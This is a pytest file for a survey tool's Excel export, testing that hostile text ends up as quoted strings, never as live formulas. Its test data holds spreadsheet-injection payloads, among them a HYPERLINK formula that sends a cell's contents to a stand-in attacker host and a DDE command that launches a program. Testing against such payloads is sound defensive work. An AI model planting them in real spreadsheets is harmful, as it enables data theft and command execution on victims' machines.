"""Formula injection and odd text: the export stores text as text and never fails on it."""
from __future__ import annotations

import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from survey.workbook.builder import build
from survey.workbook.cells import (
    MAX_CELL_CHARS,
    CellMaker,
    Sheet,
    clean_text,
    safe_sheet_title,
)
from tests.factories import (
    export_document,
    make_invitation,
    make_response,
    make_round,
    publish_document,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def test_formula_looking_text_becomes_a_quoted_string_cell():
    wb = Workbook(write_only=True)
    make = CellMaker(wb.create_sheet("x"))
    for text in FORMULAS:
        cell = make(text)
        assert cell.data_type == "s" and cell.quotePrefix and cell.value == text
    assert make("plain text") == "plain text"
    assert make(-2) == -2 and make(1.5) == 1.5 and make(True) is True and make(None) is None
    assert make(date(2026, 1, 2)) == date(2026, 1, 2)
    assert make(datetime(2026, 5, 4, 15, 30, tzinfo=UTC)) == datetime(2026, 5, 4, 10, 30)


def test_illegal_characters_and_overlong_text_are_cleaned():
    assert clean_text("a\x00b\x01c\x1fd\x0be") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert clean_text("tab\tnew\nline\r") == "tab\tnew\nline\r"
    assert clean_text("x\ud800y") == "x\ufffdy"
    long = clean_text("a" * 40000, "…[TRUNCADO]")
    assert len(long) == MAX_CELL_CHARS and long.endswith("…[TRUNCADO]")
    assert safe_sheet_title("Eje: [a/b]*?") == "Eje   a b" and safe_sheet_title("x" * 40) == "x" * 31
    assert safe_sheet_title("") == "Hoja"


def test_a_sheet_of_hostile_values_saves_and_reads_back(tmp_path):
    wb = Workbook(write_only=True)
    sheet = Sheet(wb, "Datos")
    sheet.table(["a"], [[text] for text in FORMULAS] + [["\x00\x07" + "z" * 40000]])
    wb.save(tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["Datos"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells[:-1]] == FORMULAS
    assert all(c.data_type == "s" for c in cells)
    assert cells[-1].value.startswith("\ufffd\ufffdzzz") and len(cells[-1].value) == MAX_CELL_CHARS


@pytest.fixture
def hostile_round(db_session):
    version = publish_document(export_document())
    round_ = make_round(version, title="=SUM(A1)")
    hostile = []
    for number, text in enumerate(FORMULAS):
        invitation, _ = make_invitation(round_, institution="pnp", region="puno", position=text)
        make_response(invitation, {"org_name": text, "notes": f"nota {number}", "budget": -2 if number == 2 else 10,
                                   "staff": 3})
        hostile.append(text)
    invitation, _ = make_invitation(round_, institution="pnp", region="puno")
    # Control characters (NUL aside: PostgreSQL text cannot hold it) and far more than a cell holds.
    make_response(invitation, {"org_name": "ctl\x01\x08\x0b\x1f end", "notes": "n" * 40000, "staff": 1})
    return round_


def test_hostile_answers_are_exported_as_text(hostile_round, tmp_path):
    path = tmp_path / "hostile.xlsx"
    result = build(hostile_round.id, path)
    assert result.rows == len(FORMULAS) + 1
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    wb = load_workbook(path)
    for ws_name in ("Respuestas", "Respuestas (códigos)"):
        ws = wb[ws_name]
        header = [c.value for c in ws[1]]
        rows = list(ws.iter_rows(min_row=2))
        org = [row[header.index("org_name")] for row in rows]
        # Exactly as typed, carriage return included.
        assert [c.value for c in org[:-1]] == FORMULAS
        assert all(c.data_type == "s" and c.quotePrefix for c in org[:-1])
        assert org[-1].value == "ctl\ufffd\ufffd\ufffd\ufffd end"
        notes = rows[-1][header.index("notes")].value
        assert len(notes) == MAX_CELL_CHARS and notes.endswith("…[TRUNCADO]")
        budget = rows[2][header.index("budget")]
        assert budget.value == -2 and budget.data_type == "n"
    summary = wb["Resumen"]
    assert summary["B1"].value == "=SUM(A1)" and summary["B1"].data_type == "s"
    positions = [row[2] for row in wb["Invitaciones"].iter_rows(min_row=2)][: len(FORMULAS)]
    assert all(c.data_type == "s" for c in positions) and positions[0].value == FORMULAS[0]
